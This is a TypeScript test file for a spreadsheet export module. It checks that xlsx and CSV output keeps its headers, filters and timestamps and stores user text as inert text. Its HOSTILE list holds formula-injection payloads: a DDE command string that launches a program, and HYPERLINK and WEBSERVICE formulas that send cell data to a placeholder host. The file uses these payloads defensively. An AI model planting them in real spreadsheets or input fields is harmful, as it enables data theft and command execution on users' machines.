// Tables as files: what a workbook shows, and that neither format ever works out a formula that somebody wrote into
// a name or a title.
import { createRequire } from 'node:module';
import type { Workbook } from 'exceljs';
import { unzip } from '../../../testing/unzip.js';
import { csvOf } from './sheet.csv.js';
import { SheetMaker } from './sheet.maker.js';
import type { SheetOrder } from './sheet.order.js';

const { Workbook: NewWorkbook }: { Workbook: new () => Workbook } = createRequire(__filename)('exceljs');

const HOSTILE = [
  '=1+1', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1', '\n=1+1', '  =1+1', '\u200b=1+1', '＝1+1', '"=1+1', '=HYPERLINK("http://x.example/?"&A1,"点我")', "=cmd|'/c calc'!A0", '=WEBSERVICE("http://x.example")', 'a","=1+1', 'a\r\n=1+1', '007', '1e5', '2026-11-24', "'=1+1",
];
const order = (rows: readonly (readonly (string | number | null)[])[]): SheetOrder => ({
  fileName: '叶思远 / 学时台账', asOf: new Date('2026-11-23T16:30:00Z'), notes: ['叶思远的学时台账'],
  tables: [{ name: '学时台账', columns: [{ head: '事项', width: 30, about: '活动的名称' }, { head: '学时', width: 8, about: '冲销为负数' }], rows }],
});
const maker = new SheetMaker();
const loaded = async (bytes: Uint8Array): Promise<Workbook> => {
  const book = new NewWorkbook();
  await book.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
  return book;
};

describe('a workbook', () => {
  test('keeps its header in sight, can be filtered, says as of when, and explains its columns', async () => {
    const { bytes, fileName, mime } = await maker.make(order([['区级教研活动', 4], ['冲销', -4]]), 'xlsx');
    expect([fileName, mime]).toEqual(['叶思远   学时台账.xlsx', expect.stringContaining('spreadsheetml')]);
    const book = await loaded(bytes);
    const sheet = book.getWorksheet('学时台账');
    expect(sheet?.views).toMatchObject([{ state: 'frozen', ySplit: 2 }]);
    expect(sheet?.autoFilter).toBe('A2:B4');
    expect([sheet?.getColumn(1).width, sheet?.getCell('A1').value]).toEqual([30, '数据截至 2026-11-24 00:30（北京时间）　叶思远的学时台账']);
    expect([3, 4].map((row) => [sheet?.getCell(row, 1).value, sheet?.getCell(row, 2).value])).toEqual([['区级教研活动', 4], ['冲销', -4]]);
    expect(book.getWorksheet('字段说明')?.getRow(3).values).toEqual([undefined, '学时台账', '事项', '活动的名称']);
  });

  test('holds text for text, and not one formula', async () => {
    const { bytes } = await maker.make(order(HOSTILE.map((text) => [text, 1])), 'xlsx');
    expect(unzip(Buffer.from(bytes), 'xl/worksheets/sheet1.xml')).not.toMatch(/<f[ >]|<hyperlink/);
    const sheet = (await loaded(bytes)).getWorksheet('学时台账');
    HOSTILE.forEach((text, at) => {
      const cell = sheet?.getCell(at + 3, 1);
      expect(String(cell?.value).replace(/\r\n?/g, '\n')).toBe(text.replace(/\r\n?/g, '\n'));
      expect(cell?.numFmt).toBe('@');
    });
  });

  test('of too many rows is refused in words', async () => {
    const many = order(Array.from({ length: 100_001 }, () => ['x', 1]));
    await expect(maker.make(many, 'csv')).rejects.toMatchObject({ code: 'sheet.tooManyRows', facts: { max: 100_000 } });
  });
});

describe('a CSV', () => {
  const text = (rows: readonly (readonly (string | number | null)[])[]): string => Buffer.from(csvOf(order(rows))).toString();
  test('carries its mark, its header first, numbers as numbers, and as of when behind the last row', () => {
    expect(text([['区级教研活动', 4], [null, -4]])).toBe('\uFEFF"事项","学时"\r\n"区级教研活动",4\r\n,-4\r\n"数据截至 2026-11-24 00:30（北京时间）"\r\n"叶思远的学时台账"\r\n');
  });
  test.each(HOSTILE.slice(0, 14))('begins no cell with what a spreadsheet works out: %j', (hostile) => {
    const [, cell = ''] = /\r\n"((?:[^"]|"")*)",1\r\n/.exec(text([[hostile, 1]])) ?? [];
    expect(cell).not.toMatch(/^[\s\p{C}]*[=+\-@＝＋－＠]|^[\t\r\n]/u);
  });
});
